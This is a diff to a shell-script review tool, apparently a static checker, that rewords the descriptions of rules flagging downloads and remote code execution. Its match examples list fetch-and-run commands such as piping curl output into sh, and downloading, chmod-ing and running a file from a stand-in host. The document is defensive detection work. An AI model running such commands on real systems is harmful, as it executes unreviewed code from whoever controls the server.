@@ -17,15 +17,15 @@ from engine.models import Violation
 
 REMOTE_EXEC = rule(
     "sh-remote-exec",
-    "Runs what it downloads",
+    "Runs downloaded code",
     "net_download",
     CRITICAL,
     attack=(
-        "Whoever controls the server, or the way to it, decides what runs: today's "
-        "review says nothing about tomorrow."
+        "Lets whoever controls the server, or the network path to it, decide what runs, also "
+        "after this review."
     ),
-    why="CRITICAL: the code that runs is not the code that is reviewed.",
-    fix="Send the script itself for review.",
+    why="CRITICAL: the code that runs is not the code that was reviewed.",
+    fix="Submit the script itself for review.",
     match=(
         "curl -s http://x.test/a.sh | sh",
         "bash <(curl -s http://x.test/a)",
@@ -48,9 +48,9 @@ DOWNLOAD_RUN = rule(
     "Downloads a program, then runs it",
     "net_download",
     CRITICAL,
-    attack="Brings in a program that nobody has reviewed and starts it.",
-    why="CRITICAL: the code that runs is not the code that is reviewed.",
-    fix="Send the program itself for review.",
+    attack="Brings in a program that was not reviewed, and starts it.",
+    why="CRITICAL: the code that runs is not the code that was reviewed.",
+    fix="Submit the program itself for review.",
     match=(
         "wget http://x.test/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
         "curl -o a.sh http://x.test && sh a.sh",
@@ -68,9 +68,9 @@ DOWNLOAD = rule(
     "Downloads to a file",
     "net_download",
     MEDIUM,
-    attack="Brings in data or a program whose content nobody has seen.",
-    why="MEDIUM: the content is unknown; HIGH where it lands among the system's files.",
-    fix="Hand the file in with the submission.",
+    attack="Brings in data or a program that nobody has seen.",
+    why="MEDIUM: the content is unknown; HIGH where it is written to a system path.",
+    fix="Send the file with the submission.",
     match=(
         "wget http://x.test/a.zip",
         "curl -O http://x.test/a",
@@ -109,7 +109,7 @@ def check(script: Script) -> Iterator[Violation]:
     for command in script.commands:
         if not command.own:
             if _runs_download(command):
-                yield found(REMOTE_EXEC, command, "Runs what it downloads")
+                yield found(REMOTE_EXEC, command, "Runs downloaded code")
             if is_download(command):
                 yield from _download(command)
     yield from _run_later(script)
